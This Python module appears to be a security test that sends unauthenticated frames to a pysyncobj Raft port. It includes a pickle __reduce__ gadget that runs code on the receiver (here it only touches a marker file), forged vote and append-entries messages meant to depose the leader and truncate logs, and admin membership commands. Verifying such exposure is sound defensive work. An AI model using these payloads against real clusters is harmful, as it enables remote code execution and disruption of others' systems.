"""What anyone who reaches a Raft port can send without the cluster secret (K-9).

pysyncobj frames are a native int length and zlib(pickle(message)). Without a
password a node unpickles them as they come, which runs whatever a pickle
names; with one, a frame that does not decrypt drops the connection first.
"""

from __future__ import annotations

import pathlib
import pickle
import socket
import struct
import time
import zlib


class RunsCode:
    """Unpickling this touches `marker`: proof that the receiver executed our code."""

    def __init__(self, marker: pathlib.Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[pathlib.Path]]:
        return (pathlib.Path.touch, (self.marker,))


def frame(message: object) -> bytes:
    payload = zlib.compress(pickle.dumps(message), 3)
    return struct.pack("i", len(payload)) + payload


def send_unauthenticated_frames(address: str, member: str, marker: pathlib.Path) -> None:
    host, port = address.rsplit(":", 1)
    conversations: list[list[object]] = [
        [RunsCode(marker)],
        # Claim to be a member, then try to depose the leader and truncate logs.
        [
            member,
            {
                "type": "request_vote",
                "term": 10**6,
                "last_log_index": 10**9,
                "last_log_term": 10**6,
            },
            {"type": "append_entries", "term": 10**6, "commit_index": 0, "entries": []},
        ],
        [["status"]],  # admin commands: status, membership changes
        [["add", "127.0.0.1:1"]],
    ]
    for frames in conversations:
        try:
            with socket.create_connection((host, int(port)), timeout=2) as sock:
                for message in frames:
                    sock.sendall(frame(message))
                time.sleep(0.1)
        except OSError:
            pass  # the node hung up on us: what it should do
